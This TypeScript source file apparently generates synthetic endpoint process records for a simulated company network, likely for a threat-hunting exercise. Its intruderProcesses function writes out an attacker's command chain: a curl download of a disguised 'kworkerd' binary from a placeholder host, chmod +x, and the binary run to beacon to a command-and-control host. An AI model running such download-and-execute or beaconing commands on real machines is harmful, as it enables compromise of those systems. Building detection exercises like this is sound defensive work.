import { intrusion, intrusionMarks } from './story.ts';
import { day, historyDays, hour, minute } from './time.ts';
import { type Machine, type MachineRole, machineNamed, type World } from './world.ts';

/** A process an agent saw. Activity tables refer to it by `hash`, so that joins between them and the processes find partners. */
export interface ProcessRun {
  readonly machine: Machine;
  readonly hash: bigint;
  readonly parentHash: bigint;
  readonly pid: number;
  readonly parentPid: number;
  readonly user: string;
  readonly uid: number;
  readonly path: string;
  readonly commandLine: string;
  readonly workingDirectory: string;
  readonly startedAt: number;
  /** Undefined for services that still run: they are reported again every day. */
  readonly endedAt: number | undefined;
}

interface ProcessPlan {
  readonly user: string;
  readonly path: string;
  readonly commandLine: string;
  readonly directory?: string;
}

const everywhere: readonly ProcessPlan[] = [
  { user: 'root', path: '/usr/lib/systemd/systemd', commandLine: '/sbin/init' },
  { user: 'root', path: '/usr/sbin/sshd', commandLine: 'sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups' },
  { user: 'root', path: '/usr/sbin/cron', commandLine: '/usr/sbin/cron -f -P' },
  { user: 'syslog', path: '/usr/sbin/rsyslogd', commandLine: '/usr/sbin/rsyslogd -n -iNONE' },
  {
    user: 'root',
    path: '/var/lib/datacollector/datacollector',
    commandLine: '/var/lib/datacollector/datacollector -r collector',
  },
];

const services: { readonly [role in MachineRole]: readonly ProcessPlan[] } = {
  bastion: [
    {
      user: 'root',
      path: '/usr/bin/fail2ban-server',
      commandLine: '/usr/bin/python3 /usr/bin/fail2ban-server -xf start',
    },
  ],
  'orders-api': [
    {
      user: 'orders',
      path: '/usr/lib/jvm/java-21/bin/java',
      commandLine: 'java -Xmx4g -jar /srv/orders/orders-api.jar',
      directory: '/srv/orders',
    },
    { user: 'www-data', path: '/usr/sbin/nginx', commandLine: 'nginx: worker process' },
  ],
  web: [
    { user: 'www-data', path: '/usr/sbin/nginx', commandLine: 'nginx: worker process' },
    { user: 'node', path: '/usr/bin/node', commandLine: 'node /srv/web/server.js', directory: '/srv/web' },
  ],
  tracking: [
    {
      user: 'tracking',
      path: '/srv/tracking/bin/ingest',
      commandLine: '/srv/tracking/bin/ingest --listen :9000',
      directory: '/srv/tracking',
    },
  ],
  'kubernetes-node': [
    { user: 'root', path: '/usr/bin/containerd', commandLine: '/usr/bin/containerd' },
    {
      user: 'root',
      path: '/usr/bin/kubelet',
      commandLine: '/usr/bin/kubelet --config /etc/kubernetes/kubelet/config.json',
    },
  ],
  'ci-runner': [
    {
      user: 'runner',
      path: '/opt/runner/bin/Runner.Listener',
      commandLine: '/opt/runner/bin/Runner.Listener run',
      directory: '/opt/runner',
    },
  ],
  metrics: [
    {
      user: 'prometheus',
      path: '/usr/bin/prometheus',
      commandLine: '/usr/bin/prometheus --config.file=/etc/prometheus/prometheus.yml',
    },
    { user: 'grafana', path: '/usr/sbin/grafana', commandLine: 'grafana server --config=/etc/grafana/grafana.ini' },
  ],
  database: [
    { user: 'postgres', path: '/usr/lib/postgresql/16/bin/postgres', commandLine: 'postgres: 16/main: checkpointer' },
  ],
  dispatch: [
    {
      user: 'SYSTEM',
      path: 'C:\\Program Files\\Harborline\\Dispatch\\dispatch.exe',
      commandLine: 'dispatch.exe --service',
    },
  ],
  analytics: [
    {
      user: 'airflow',
      path: '/usr/bin/python3',
      commandLine: '/usr/bin/python3 -m airflow scheduler',
      directory: '/srv/airflow',
    },
  ],
};

const shortLived: readonly ProcessPlan[] = [
  { user: 'root', path: '/usr/bin/apt-get', commandLine: 'apt-get -qq update' },
  { user: 'root', path: '/usr/sbin/logrotate', commandLine: '/usr/sbin/logrotate /etc/logrotate.conf' },
  { user: 'root', path: '/usr/lib/sysstat/sa1', commandLine: '/bin/sh /usr/lib/sysstat/sa1 1 1' },
  { user: 'root', path: '/usr/bin/run-parts', commandLine: 'run-parts --report /etc/cron.hourly' },
  {
    user: 'root',
    path: '/usr/bin/aws',
    commandLine: 'aws s3 cp /var/backups/nightly.tgz s3://harborline-orders-archive/',
  },
  { user: 'deploy', path: '/usr/bin/git', commandLine: 'git fetch --tags origin' },
  { user: 'deploy', path: '/usr/bin/systemctl', commandLine: 'systemctl restart orders-api' },
  { user: 'runner', path: '/usr/bin/docker', commandLine: 'docker build -t build/orders:latest .' },
  { user: 'runner', path: '/usr/bin/npm', commandLine: 'npm ci --no-audit' },
  { user: 'root', path: '/usr/bin/curl', commandLine: 'curl -fsS http://169.254.169.254/latest/meta-data/instance-id' },
  { user: 'root', path: '/usr/bin/journalctl', commandLine: 'journalctl --vacuum-time=14d' },
  { user: 'root', path: '/usr/bin/find', commandLine: 'find /var/tmp -mtime +7 -delete' },
];

const userIds: { readonly [name: string]: number } = {
  root: 0,
  SYSTEM: 0,
  syslog: 104,
  'www-data': 33,
  postgres: 112,
  orders: 990,
  tracking: 991,
  node: 992,
  airflow: 993,
  prometheus: 994,
  grafana: 995,
  deploy: 1000,
  ops: 1001,
  runner: 1002,
};

/** The numeric id behind a local user name. */
export function userId(name: string): number {
  return userIds[name] ?? 1100;
}

/** Services that run all the time, and where connections and name look-ups mostly come from. */
export function serviceProcesses(world: World): readonly ProcessRun[] {
  return world.machines.flatMap((machine) => {
    const random = world.random(`services/${machine.hostname}`);
    const plans = machine.os === 'Windows' ? services[machine.role] : [...everywhere, ...services[machine.role]];
    const rootHash = random.hash();
    return plans.map((plan, index): ProcessRun => {
      const pid = index === 0 ? 1 : random.integer(400, 4000);
      return {
        machine,
        hash: index === 0 ? rootHash : random.hash(),
        parentHash: index === 0 ? 0n : rootHash,
        pid,
        parentPid: index === 0 ? 0 : 1,
        user: plan.user,
        uid: userId(plan.user),
        path: plan.path,
        commandLine: plan.commandLine,
        workingDirectory: plan.directory ?? '/',
        startedAt: Math.max(machine.launchedAt, world.anchor - 40 * day) + random.integer(1, 50) * minute,
        endedAt: undefined,
      };
    });
  });
}

/** Commands that come and go: timers, deployments, builds; oldest first. Their number grows with the world's scale. */
export function* shortProcesses(world: World): Iterable<ProcessRun> {
  const random = world.random('short-processes');
  const machines = world.machines.filter((machine) => machine.os === 'Linux');
  const parents = new Map(
    serviceProcesses(world)
      .filter((run) => run.pid === 1)
      .map((run) => [run.machine, run.hash]),
  );
  const count = Math.round(1500 * world.scale);
  const span = historyDays * day;
  for (let index = 0; index < count; index++) {
    const machine = random.pick(machines);
    const plan = random.pick(shortLived);
    const startedAt = Math.round(world.anchor - span + (span * (index + random.next())) / count);
    yield {
      machine,
      hash: random.hash(),
      parentHash: parents.get(machine) ?? 0n,
      pid: random.integer(5000, 65000),
      parentPid: 1,
      user: plan.user,
      uid: userId(plan.user),
      path: plan.path,
      commandLine: plan.commandLine,
      workingDirectory: plan.user === 'runner' ? '/opt/runner/_work' : '/',
      startedAt,
      endedAt: startedAt + random.integer(1, 1800) * 1000,
    };
  }
}

/** What the intruder runs on the orders host: a shell of the deploy user, the download, and the program it leaves behind. */
export function intruderProcesses(world: World): readonly ProcessRun[] {
  const marks = intrusionMarks(world.seed);
  const machine = machineNamed(world, intrusion.targetHost);
  const random = world.random('intruder-processes');
  const start = world.anchor - intrusion.processStart;
  const shell = { machine, user: 'deploy', uid: userId('deploy'), workingDirectory: '/home/deploy' };
  const child = { ...shell, parentHash: marks.shellHash, parentPid: marks.shellId };
  return [
    {
      ...shell,
      hash: marks.shellHash,
      parentHash: random.hash(),
      pid: marks.shellId,
      parentPid: 47990,
      path: '/usr/bin/bash',
      commandLine: '-bash',
      startedAt: start - 6 * minute,
      endedAt: start + 22 * minute,
    },
    {
      ...child,
      hash: random.hash(),
      pid: 48191,
      path: '/usr/bin/curl',
      commandLine: `curl -fsSL http://${intrusion.downloadHost}/k/kworkerd -o ${intrusion.processPath}`,
      startedAt: start - 2 * minute,
      endedAt: start - 2 * minute + 4000,
    },
    {
      ...child,
      hash: random.hash(),
      pid: 48199,
      path: '/usr/bin/chmod',
      commandLine: `chmod +x ${intrusion.processPath}`,
      startedAt: start - minute,
      endedAt: start - minute + 100,
    },
    {
      ...child,
      hash: marks.processHash,
      pid: marks.processId,
      path: intrusion.processPath,
      commandLine: `${intrusion.processPath} -u https://${intrusion.controlHost}/v1/s -i 900`,
      workingDirectory: '/tmp/.cache-8f2e',
      startedAt: start,
      endedAt: undefined,
    },
  ];
}

/** The start of the hourly batch that an agent's observation at `time` is part of. Batches end at or before the anchor. */
export function batchStart(world: World, time: number): number {
  const batches = Math.ceil((world.anchor - time) / hour);
  return world.anchor - Math.max(batches, 1) * hour;
}
